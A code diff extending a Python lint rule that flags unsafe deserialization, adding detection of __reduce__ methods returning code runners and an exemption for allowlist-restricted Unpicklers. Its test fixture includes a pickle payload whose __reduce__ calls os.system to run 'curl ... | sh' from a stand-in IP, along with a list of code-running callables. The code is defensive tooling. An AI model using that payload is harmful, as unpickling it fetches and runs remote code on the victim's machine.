@@ -1,7 +1,12 @@
 """Objects deserialized with pickle and friends."""
 
 import libcst as cst
-from guidelint.cst import Context, Rule, RuleMeta, assigned_value, is_constant
+from guidelint.cst import Context, Rule, RuleMeta, assigned_value, is_constant, iter_nodes
+
+# callables that a __reduce__ can make every unpickling run
+CODE_RUNNERS = frozenset(
+    {"exec", "eval", "compile", "os.system", "os.popen", "os.execv", "os.execl", "os.spawnl", "__import__"}
+)
 
 
 class UnsafeDeserialization(Rule):
@@ -52,11 +57,22 @@ class UnsafeDeserialization(Rule):
         "numpy.load",
     )
 
-    nodes = (cst.Call,)
+    nodes = (cst.Call, cst.FunctionDef)
     needles = (*sorted({name.split(".")[0] for name in calls}), "multiprocessing")
 
     def check_node(self, node: cst.CSTNode, ctx: Context) -> None:
-        """multiprocessing's Connection.recv() unpickles whatever the peer sends."""
+        """multiprocessing's Connection.recv() unpickles whatever the peer sends; a __reduce__ that
+        returns a code runner makes every pickle of the object a payload."""
+        if isinstance(node, cst.FunctionDef):
+            if node.name.value in ("__reduce__", "__reduce_ex__"):
+                runner = _code_runner(node, ctx)
+                if runner:
+                    ctx.report(
+                        node.name,
+                        f"{node.name.value} makes unpickling this object call {runner}(): "
+                        "its pickles run code wherever they are loaded",
+                    )
+            return
         if not (isinstance(node, cst.Call) and isinstance(node.func, cst.Attribute) and node.func.attr.value == "recv"):
             return
         receiver = node.func.value
@@ -71,6 +87,8 @@ class UnsafeDeserialization(Rule):
         if call.args and all(is_constant(a.value) for a in call.args if a.keyword is None):
             return  # loading a fixed file name the service itself controls
         if name == "torch.load" and _weights_only(call):
+            return
+        if name.endswith(".Unpickler") and _restricted(call, ctx):
             return
         ctx.report(call, self.meta.message.format(name=name))
 
@@ -103,6 +121,15 @@ class UnsafeDeserialization(Rule):
             listener = Listener(address)
             peer = listener.accept()
             return first, peer.recv()  # expect
+
+        import os
+
+        class Greeting:
+            def __reduce__(self):  # expect
+                return os.system, ("curl -s http://203.0.113.9/x | sh",)
+
+        def greeting_blob():
+            return pickle.dumps(Greeting())
     """
     safe = """
         import json
@@ -120,6 +147,25 @@ class UnsafeDeserialization(Rule):
         def load_arrays(upload):
             import numpy as np
             return np.load(upload.stream), np.load("weights.npy", allow_pickle=True)
+
+        ALLOWED = {("collections", "OrderedDict")}
+
+        def only_allowed(module, name):
+            if (module, name) not in ALLOWED:
+                raise pickle.UnpicklingError(f"{module}.{name} is not allowed")
+            return getattr(__import__(module), name)
+
+        def restore_restricted(stream):
+            unpickler = pickle.Unpickler(stream)
+            unpickler.find_class = only_allowed
+            return unpickler.load()
+
+        class Point:
+            def __init__(self, x, y):
+                self.x, self.y = x, y
+
+            def __reduce__(self):
+                return Point, (self.x, self.y)
     """
 
 
@@ -134,6 +180,39 @@ def _connection(expr: cst.BaseExpression, ctx: Context) -> bool:
         if isinstance(listener, cst.Name):
             listener = assigned_value(ctx, listener.value, expr) or listener
         return isinstance(listener, cst.Call) and ctx.qualname(listener.func) == "multiprocessing.connection.Listener"
+    return False
+
+
+def _code_runner(function: cst.FunctionDef, ctx: Context) -> str | None:
+    """The code-running callable a __reduce__ returns first in its tuple, e.g. os.system."""
+    for statement in iter_nodes(function, cst.Return):
+        value = statement.value
+        if isinstance(value, cst.Tuple) and value.elements:
+            name = ctx.qualname(value.elements[0].value) or ""
+            if name.removeprefix("builtins.") in CODE_RUNNERS or name.startswith("subprocess."):
+                return name.removeprefix("builtins.")
+    return None
+
+
+def _restricted(call: cst.Call, ctx: Context) -> bool:
+    """unpickler = pickle.Unpickler(f) followed by unpickler.find_class = allowed_only: the documented
+    way to restrict which classes a pickle may name."""
+    parent = ctx.ancestors[-1] if ctx.ancestors else None
+    if not (isinstance(parent, cst.Assign) and len(parent.targets) == 1):
+        return False
+    target = parent.targets[0].target
+    if not isinstance(target, cst.Name):
+        return False
+    scope = ctx.function or ctx.module
+    for assign in iter_nodes(scope, cst.Assign):
+        for t in assign.targets:
+            if (
+                isinstance(t.target, cst.Attribute)
+                and t.target.attr.value == "find_class"
+                and isinstance(t.target.value, cst.Name)
+                and t.target.value.value == target.value
+            ):
+                return True
     return False
 
 
